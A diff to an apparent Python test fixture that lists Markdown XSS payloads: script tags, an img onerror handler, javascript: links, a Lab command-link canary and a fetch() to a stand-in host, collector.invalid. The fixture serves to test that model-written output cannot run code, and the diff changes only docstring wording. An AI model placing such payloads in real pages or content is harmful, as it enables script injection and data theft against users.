@@ -1,23 +1,23 @@
-"""A page of payloads as a hostile or misled model could write it. Each tries a script, a request or a Lab command."""
+"""Payloads that a hostile or misled model could write. Each tries to run a script, send a request or run a Lab command."""
 
 from __future__ import annotations
 
 __all__ = ["CANARY", "CLICKABLE", "ELSEWHERE", "PAYLOADS", "SCRIPT"]
 
 ELSEWHERE = "http://collector.invalid"
-"""An address that nothing may be requested from."""
+"""An address to which nothing may send a request."""
 
 CANARY = "canary:run"
-"""A Lab command that the test registers. Nothing may execute it."""
+"""A Lab command that the test registers and that nothing may execute."""
 
 SCRIPT = "window.__pwned = (window.__pwned || 0) + 1"
-"""A script whose traces can be seen."""
+"""A script that leaves traces."""
 
 _COMMAND = f'data-commandlinker-command="{CANARY}" data-commandlinker-args="{{}}"'
 _ATTACK = f"{SCRIPT}; fetch('{ELSEWHERE}/script')"
 
 CLICKABLE = [f"click-{number}" for number in range(1, 12)]
-"""The texts in the payloads that a person could click on."""
+"""The texts of the payloads that a person could click on."""
 
 PAYLOADS = [
     # scripts that run by themselves
@@ -60,4 +60,4 @@ PAYLOADS = [
     f"`` ` `` <img src=x onerror='{SCRIPT}'> ```<script>{SCRIPT}</script>```",
     f"[ref]: javascript:{SCRIPT}\n\n<x-unknown onpointerover='{SCRIPT}'>custom</x-unknown>",
 ]
-"""Blocks of Markdown, to be joined by blank lines."""
+"""Blocks of Markdown; blank lines join them."""
